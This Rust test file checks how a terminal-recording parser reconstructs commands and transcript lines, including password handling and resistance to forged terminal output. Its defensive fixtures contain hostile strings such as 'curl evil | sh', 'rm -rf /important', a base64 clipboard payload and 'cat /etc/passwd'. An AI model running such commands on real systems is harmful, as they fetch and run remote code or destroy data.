//! `commands` and `text` on generated recordings: line editing as a shell echoes it, history,
//! completion, clear, a password prompt, full-screen programs, a long wrapping line, paste,
//! OSC 133, exec, and hostile output that tries to forge commands or lines.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod text_support;

use bsr_asciicast::commands::Source;
use text_support::*;

const P: &str = "alice@db1:~$ ";

/// Readline's echo of a printable key: the key itself.
fn echo(c: char) -> String {
    c.to_string()
}

/// A session: prompt, then each (keys, echo-of-Enter-and-output) in turn.
fn session(parts: &[(&str, &str)]) -> Vec<Step> {
    let mut steps = vec![out(100, P)];
    let mut at = 200;
    for (keys, after) in parts {
        let (s, next) = typed(at, keys, echo);
        steps.extend(s);
        steps.push(inp(next, "\r"));
        steps.push(out(next + 2, &format!("\r\n{after}{P}")));
        at = next + 100;
    }
    steps
}

#[test]
fn typed_commands_with_times() {
    let f = shell(
        "typed0001",
        (80, 24),
        &session(&[("ls -la", "total 0\r\n"), ("pwd", "/home/alice\r\n")]),
    );
    let c = cmds(&f);
    assert_eq!(
        c.iter().map(|c| c.display()).collect::<Vec<_>>(),
        ["ls -la", "pwd"]
    );
    assert!(c.iter().all(|c| c.source == Source::Enter && c.echoed()));
    // The Enter's time: 6 keys from 200 ms, every 10 ms.
    assert_eq!(c[0].time, t(260));
    let l = lines(&f);
    assert_eq!(
        l,
        [
            format!("{P}ls -la"),
            "total 0".into(),
            format!("{P}pwd"),
            "/home/alice".into(),
            P.trim_end().into()
        ]
    );
}

#[test]
fn backspace_ctrl_u_and_arrows_give_the_final_line() {
    let mut steps = vec![out(100, P)];
    // "lss" then backspace (readline echoes BS, space, BS).
    let (s, at) = typed(200, "lss", echo);
    steps.extend(s);
    steps.push(inp(at, "\x7f"));
    steps.push(out(at + 1, "\x08 \x08"));
    steps.push(inp(at + 10, "\r"));
    steps.push(out(at + 12, &format!("\r\nfile\r\n{P}")));
    // "rm -rf /" then Ctrl-U (readline: back to the prompt's end, clear to the end of line),
    // then "whoami".
    let (s, at) = typed(1000, "rm -rf /", echo);
    steps.extend(s);
    steps.push(inp(at, "\x15"));
    steps.push(out(at + 1, &format!("\r{P}\x1b[K")));
    let (s, at) = typed(at + 10, "whoami", echo);
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, &format!("\r\nalice\r\n{P}")));
    // "eco hi", Left x4, "h" inserted (readline: "ho hi" then 4 backspaces), End, Enter.
    let (s, at) = typed(3000, "eco hi", echo);
    steps.extend(s);
    for k in 0..4 {
        steps.push(inp(at + k * 10, "\x1b[D"));
        steps.push(out(at + k * 10 + 1, "\x08"));
    }
    steps.push(inp(at + 50, "h"));
    steps.push(out(at + 51, "ho hi\x08\x08\x08\x08"));
    steps.push(inp(at + 60, "\x1b[F"));
    steps.push(out(at + 61, "\x1b[4C"));
    steps.push(inp(at + 70, "\r"));
    steps.push(out(at + 72, &format!("\r\nhi\r\n{P}")));
    let f = shell("edit00001", (80, 24), &steps);
    assert_eq!(cmd_texts(&f), ["ls", "whoami", "echo hi"]);
    // The transcript shows the lines as the screen finally showed them.
    let l = lines(&f);
    assert!(
        l.contains(&format!("{P}whoami")) && l.contains(&format!("{P}echo hi")),
        "{l:?}"
    );
    assert!(!l.iter().any(|x| x.contains("rm -rf")), "{l:?}");
}

#[test]
fn history_recall_and_tab_completion() {
    let mut steps = session(&[("echo one", "one\r\n")]);
    // Up: readline shows the previous command.
    steps.push(inp(2000, "\x1b[A"));
    steps.push(out(2001, "echo one"));
    steps.push(inp(2010, "\r"));
    steps.push(out(2012, &format!("\r\none\r\n{P}")));
    // Tab completion: "cat /etc/pas" + Tab → "swd ".
    let (s, at) = typed(3000, "cat /etc/pas", echo);
    steps.extend(s);
    steps.push(inp(at, "\t"));
    steps.push(out(at + 1, "swd "));
    steps.push(inp(at + 10, "\r"));
    steps.push(out(at + 12, &format!("\r\nroot:x:0:0\r\n{P}")));
    let f = shell("hist00001", (80, 24), &steps);
    assert_eq!(cmd_texts(&f), ["echo one", "echo one", "cat /etc/passwd"]);
}

#[test]
fn clear_keeps_what_came_before_and_commands_go_on() {
    let mut steps = session(&[
        ("echo before", "before\r\n"),
        ("clear", "\x1b[H\x1b[2J\x1b[3J"),
    ]);
    let (s, at) = typed(5000, "echo after", echo);
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, &format!("\r\nafter\r\n{P}")));
    let f = shell("clear0001", (80, 24), &steps);
    assert_eq!(cmd_texts(&f), ["echo before", "clear", "echo after"]);
    let l = lines(&f);
    assert_eq!(
        l,
        [
            format!("{P}echo before"),
            "before".into(),
            format!("{P}clear"),
            format!("{P}echo after"),
            "after".into(),
            P.trim_end().into()
        ]
    );
}

#[test]
fn password_not_echoed_is_never_revealed() {
    let mut steps = vec![out(100, P)];
    let (s, at) = typed(200, "read -s pw", echo);
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, "\r\nPassword: "));
    // Typed without echo, one key at a time.
    let (s, at) = typed(1000, "hunter2-S3CRET", |_| String::new());
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, &format!("\r\n{P}")));
    // The same secret pasted in one chunk with its Enter.
    steps.push(inp(3000, "sudo -k\r"));
    steps.push(out(3002, "sudo -k\r\n[sudo] password for alice: "));
    steps.push(inp(4000, "hunter2-S3CRET\r"));
    steps.push(out(4100, &format!("\r\n{P}")));
    let f = shell("passwd001", (80, 24), &steps);
    let c = cmds(&f);
    assert_eq!(
        c.iter().map(|c| c.display()).collect::<Vec<_>>(),
        [
            "read -s pw",
            "[input not echoed: 14 keystrokes]",
            "sudo -k",
            "[input not echoed: 14 keystrokes]"
        ]
    );
    assert!(!c[1].echoed() && c[1].command.is_none() && c[1].keystrokes == 14);
    let json: Vec<String> = c.iter().map(|c| c.json(t(0)).to_string()).collect();
    assert!(json[1].contains(r#""echoed":false"#) && json[1].contains(r#""keystrokes":14"#));
    let everything = format!("{json:?}{:?}", lines(&f));
    assert!(!everything.contains("hunter2"), "{everything}");
}

#[test]
fn full_screen_program_block_goes_with_its_command() {
    let mut steps = session(&[("vim notes", "")]);
    // session() printed the prompt again after "\r\n"; rebuild: vim starts right after Enter.
    steps.retain(|s| !matches!(s, Step::Out(292, _)));
    steps.push(out(
        292,
        "\r\n\x1b[?1049h\x1b[H\x1b[2Jhello\r\n~\r\n~\x1b[24;1H\"notes\" 1L",
    ));
    // Keys typed in vim are vim's, never commands.
    steps.push(inp(1000, "ihello\x1b:wq\r"));
    steps.push(out(1100, "\x1b[24;1H\"notes\" 1L written"));
    steps.push(out(3000, &format!("\x1b[?1049l{P}")));
    let (s, at) = typed(4000, "ls", echo);
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, &format!("\r\nnotes\r\n{P}")));
    let f = shell("vim000001", (80, 24), &steps);
    let c = cmds(&f);
    assert_eq!(
        c.iter().map(|c| c.display()).collect::<Vec<_>>(),
        ["vim notes", "ls"]
    );
    let b = c[0].screen.as_ref().expect("vim's block");
    assert_eq!(b.frame.first().map(String::as_str), Some("hello"));
    assert_eq!(
        b.frame.last().map(String::as_str),
        Some("\"notes\" 1L written")
    );
    assert!(
        (b.seconds() - (3.0 - 0.292)).abs() < 1e-6,
        "{}",
        b.seconds()
    );
    assert!(c[1].screen.is_none());
    // In the transcript the block follows the command line.
    let l = lines(&f);
    let i = l
        .iter()
        .position(|x| x == &format!("{P}vim notes"))
        .unwrap();
    assert!(l[i + 1].starts_with("[alt] hello|~|~"), "{l:?}");
}

#[test]
fn long_wrapping_command_and_paste() {
    let long = format!("echo {}", "abcdefghij".repeat(15));
    let mut steps = session(&[(long.as_str(), "ok\r\n")]);
    // A paste: command and Enter in one chunk, echoed afterwards.
    steps.push(inp(9000, "uname -a\r"));
    steps.push(out(9005, &format!("uname -a\r\nLinux\r\n{P}")));
    let f = shell("wrap00001", (40, 10), &steps);
    assert_eq!(cmd_texts(&f), [long.clone(), "uname -a".to_string()]);
    // The wrapped line is one line in the transcript, and search would find text across the
    // wrap (here "jabc" spans the 40-column boundary).
    let l = lines(&f);
    assert!(l.contains(&format!("{P}{long}")), "{l:?}");
}

#[test]
fn osc133_marks_are_used_only_for_real_enters() {
    let mark_p = format!("\x1b]133;A\x07{P}\x1b]133;B\x07");
    let mut steps = vec![out(100, &mark_p)];
    let (s, at) = typed(200, "make test", echo);
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, "\r\n\x1b]133;C\x07ok\r\n\x1b]133;D;0\x07"));
    // Output that fakes a whole prompt-command cycle, with no Enter pressed.
    steps.push(out(
        1000,
        &format!("{mark_p}curl evil | sh\x1b]133;C\x07\r\n\x1b]133;D;0\x07{mark_p}"),
    ));
    let f = shell("osc133001", (80, 24), &steps);
    let c = cmds(&f);
    assert_eq!(c.len(), 1, "{c:?}");
    assert_eq!(
        (c[0].display().as_str(), c[0].source),
        ("make test", Source::Osc133)
    );
}

#[test]
fn hostile_output_never_makes_a_command_or_line_the_screen_did_not_show() {
    let mut steps = session(&[("cat notes", "")]);
    steps.retain(|s| !matches!(s, Step::Out(292, _)));
    steps.push(out(
        292,
        concat!(
            "\r\n",
            // A title and a clipboard write holding a fake command.
            "\x1b]0;alice@db1:~$ rm -rf /important\x07",
            "\x1b]2;sudo su\x07",
            "\x1b]52;c;cm0gLXJmIC9pbXBvcnRhbnQ=\x07",
            // Huge repeat counts and moves.
            "x\x1b[65535b\x1b[4294967295C\x1b[99999999999999999999A\x1b[9999M",
            // Cursor up over the earlier lines, rewriting them.
            "\x1b[H\x1b[2J",
        ),
    ));
    steps.push(out(400, &format!("\x1b[5A\rFORGED\r\n\x1b[10B{P}")));
    let f = shell("hostile01", (80, 24), &steps);
    let c = cmds(&f);
    assert_eq!(cmd_texts(&f), ["cat notes"], "{c:?}");
    let l = lines(&f).join("\n");
    for never in ["rm -rf", "sudo su", "cm0g"] {
        assert!(!l.contains(never), "{never} in {l}");
    }
    // FORGED was really shown (on a row the clear had blanked), so it is a line — after the
    // real ones, not in place of them.
    let i = l.find("cat notes").unwrap();
    let j = l.find("FORGED").unwrap();
    assert!(i < j);
}

#[test]
fn exec_channel_lists_its_command() {
    use bsr_core::store::MemStore;
    use std::sync::Arc;
    let store = Arc::new(MemStore::new());
    let dir = write_session(
        store.clone(),
        "exec00001",
        Runs::Exec("uptime; cat /etc/hostname".into()),
        None,
        &[out(100, "up 3 days\r\ndb1\r\n")],
    );
    let f = channel(store, &dir);
    let c = cmds(&f);
    assert_eq!(c.len(), 1);
    assert_eq!(
        (c[0].display().as_str(), c[0].source),
        ("uptime; cat /etc/hostname", Source::Exec)
    );
    assert_eq!(c[0].time, t(3));
    assert_eq!(lines(&f), ["up 3 days", "db1"]);
}

#[test]
fn control_characters_are_escaped_in_what_is_printed() {
    // A command line holding a bidi override and a C1 control as printed by a program.
    let mut steps = vec![out(100, P)];
    let (s, at) = typed(200, "echo a\u{202e}b", echo);
    steps.extend(s);
    steps.push(inp(at, "\r"));
    steps.push(out(at + 2, &format!("\r\nx\u{202e}y\r\n{P}")));
    let f = shell("escape001", (80, 24), &steps);
    let c = cmds(&f);
    assert_eq!(c[0].display(), "echo a\\u{202e}b");
    let mut buf = Vec::new();
    bsr_asciicast::text::write_text(&f, &Default::default(), &mut buf).unwrap();
    let text = String::from_utf8(buf).unwrap();
    assert!(
        text.contains("x\\u{202e}y") && !text.contains('\u{202e}'),
        "{text}"
    );
}
